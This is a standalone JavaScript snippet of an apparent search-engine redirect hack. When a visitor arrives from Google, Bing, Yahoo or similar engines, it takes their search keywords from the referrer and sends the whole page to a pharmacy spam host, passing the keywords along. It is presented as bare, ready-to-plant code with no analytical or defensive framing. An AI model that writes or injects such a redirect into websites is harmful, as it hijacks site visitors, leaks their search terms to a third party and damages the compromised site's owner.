var engines = new Array("google.", "bing.", "yahoo.", "ask.", "aol.", "yandex.", "duckduckgo.");
var from = document.referrer.toLowerCase();
for (var i = 0; i < engines.length; i++) {
  if (from.indexOf(engines[i]) > 0) {
    var kw = from.match(/[?&](q|p|text)=([^&]+)/);
    top.location.href = "http://rx-discount-pills.example/search.php?q=" + (kw ? kw[2] : document.title);
    break;
  }
}
